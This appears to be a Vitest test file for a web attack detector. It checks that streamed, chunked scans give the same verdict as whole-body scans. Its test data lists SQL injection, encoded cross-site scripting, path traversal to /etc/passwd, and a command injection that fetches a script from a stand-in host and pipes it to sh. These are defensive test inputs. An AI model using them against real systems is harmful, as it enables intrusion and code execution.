import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Detector, ScanResult } from '../../src/index.js';
import { detector } from './helpers.js';

let d: Detector;
beforeAll(async () => { d = await detector(); });
afterAll(async () => { await d.close(); });

const shape = (r: ScanResult) => ({ blocked: r.blocked, score: r.score, threats: r.threats.map((t) => `${t.ruleId}@${t.offset}+${t.length}`) });

const attacks = [
  "x' union/**/select password,2 from users-- ",
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '&#x3C;svg/onload=go()&#62;',
  'a; wget http://h.test/x | sh',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini',
  'q=\\x3cscript\\x3e',
  "1' and '%'='",
];

describe('chunked verdict equals whole verdict', () => {
  for (const attack of attacks) {
    it(`every split of ${JSON.stringify(attack)}`, () => {
      const bytes = new TextEncoder().encode(attack);
      const whole = shape(d.scan(bytes, { context: 'body' }));
      expect(whole.blocked).toBe(true);
      for (let cut = 0; cut <= bytes.length; cut++) {
        const s = d.createStream({ context: 'body' });
        s.push(bytes.subarray(0, cut));
        s.push(bytes.subarray(cut));
        expect(shape(s.finish())).toEqual(whole);
      }
    });
  }
  it('byte-at-a-time pushes give the same verdict', () => {
    const bytes = new TextEncoder().encode(attacks[0]!);
    const s = d.createStream({ context: 'body' });
    for (let i = 0; i < bytes.length; i++) s.push(bytes.subarray(i, i + 1));
    expect(shape(s.finish())).toEqual(shape(d.scan(bytes, { context: 'body' })));
  });
  it('an attack split across slot-sized chunks of a large body is found', () => {
    const filler = 'lorem ipsum dolor sit amet '.repeat(4000);
    const body = `${filler}<script>steal()</script>${filler}`;
    const s = d.createStream({ context: 'body' });
    for (let i = 0; i < body.length; i += 1000) s.push(body.slice(i, i + 1000));
    const r = s.finish();
    expect(r.blocked).toBe(true);
    expect(r.threats.some((t) => t.ruleId === 'xss.script-tag' && t.offset === filler.length)).toBe(true);
    expect(shape(d.scan(body, { context: 'body' }))).toEqual(shape(r));
  });
  it('a stream refuses pushes after finish', () => {
    const s = d.createStream({ context: 'body' });
    s.finish();
    expect(() => s.push('x')).toThrow(/finished/);
  });
});
